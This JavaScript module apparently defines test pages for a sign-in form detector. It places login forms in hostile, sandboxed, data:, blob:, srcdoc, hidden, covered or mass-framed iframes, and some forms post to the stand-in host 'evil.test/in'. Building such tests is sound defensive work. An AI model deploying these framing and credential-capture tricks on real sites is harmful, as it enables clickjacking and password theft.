/** Frames: many at once, hostile ones inside the right page, the right page inside hostile ones. */
import { form, html, quoted } from './page.mjs';

const NO_FORM = /No sign-in form|frame/;
const NOT_SEEN = /cannot be seen|No sign-in form|frame/;
const frame = (/** @type {string} */ src, more = '') => `<iframe src="${src}" width="600" height="250"${more}></iframe>`;
const login = html('Sign in', form());

/** A10, and A6 for frames. @type {Record<string, {what: string, told: RegExp, todo?: string, body: string, headers?: Record<string, string>}>} */
export const cases = {
	'a10-hostile': { what: 'a frame of another host in the right page', told: NO_FORM, body: frame('https://evil.test/login') },
	'a10-between': { what: 'the right page in a frame of another host in the right page', told: NO_FORM, body: frame('https://evil.test/around') },
	'a10-sandboxed': { what: 'the right page in a sandbox', told: NO_FORM,
		body: frame('/login', ' sandbox="allow-forms allow-scripts"') },
	'a10-opaque': { what: 'the right page, which its own server puts into a sandbox', told: NO_FORM, body: form(),
		headers: { 'content-security-policy': 'sandbox allow-forms allow-scripts' } },
	'a10-data': { what: 'a frame that is a data: address', told: NO_FORM, body: frame(`data:text/html,${encodeURIComponent(login)}`) },
	'a10-blob': { what: 'a frame that is a blob: address', told: NO_FORM,
		body: `<script>
const at = URL.createObjectURL(new Blob([${JSON.stringify(form({ action: 'https://evil.test/in' }))}], { type: 'text/html' }));
document.write('<iframe width="600" height="250" src="' + at + '"></iframe>');
</script>` },
	'a10-written': { what: 'a frame whose text stands in the page', told: NO_FORM,
		body: `<iframe width="600" height="250" srcdoc="${quoted(form({ action: 'https://evil.test/in' }))}"></iframe>` },
	'a06-frame-tiny': { what: 'a frame of the right host that is one pixel', told: NOT_SEEN, body: '<iframe src="/login" width="1" height="1"></iframe>' },
	'a06-frame-transparent': { what: 'a frame of the right host that is transparent', told: NOT_SEEN, body: frame('/login', ' style="opacity: 0"') },
	'a06-frame-away': { what: 'a frame of the right host that is off the page', told: NOT_SEEN,
		body: frame('/login', ' style="position: absolute; left: -9999px"') },
	'a05-frame-covered': { what: 'a frame of the right host under a layer', told: /over the (sign-in )?form|covers the form|No sign-in form/,
		body: `${frame('/login')}<div style="position: fixed; inset: 0; z-index: 9; background: white">…</div>` },
};

/** A1: one visit that frames the login pages of many apps. @param {string[]} urls */
const sweep = (urls) => `${urls.map((url) => frame(url)).join('\n')}
<script>addEventListener('load', () => { document.title = 'All frames are here'; });</script>`;

/** Paths of the apps that a sweep is after. */
export const SWEPT = [1, 2, 3, 4, 5, 6, 7, 8].map((number) => `swept-${number}`);
const swept = SWEPT.map((path) => `https://frames.test/${path}`);

/** @type {Record<string, import('./page.mjs').Page>} */
export const pages = {
	...Object.fromEntries(Object.entries(cases).map(([name, { what, body, headers }]) => [name, { html: html(what, body), headers }])),
	...Object.fromEntries(SWEPT.map((path) => [path, { html: login }])),
	'login': { html: login },
	'around': { html: html('Around', frame('https://right.test/login')) },
	'a01-sweep': { html: html('A sweep', sweep(swept)) },
	'a01-during': { html: html('A sweep during a sign-in', form() + sweep(swept), { spy: false }) },
};
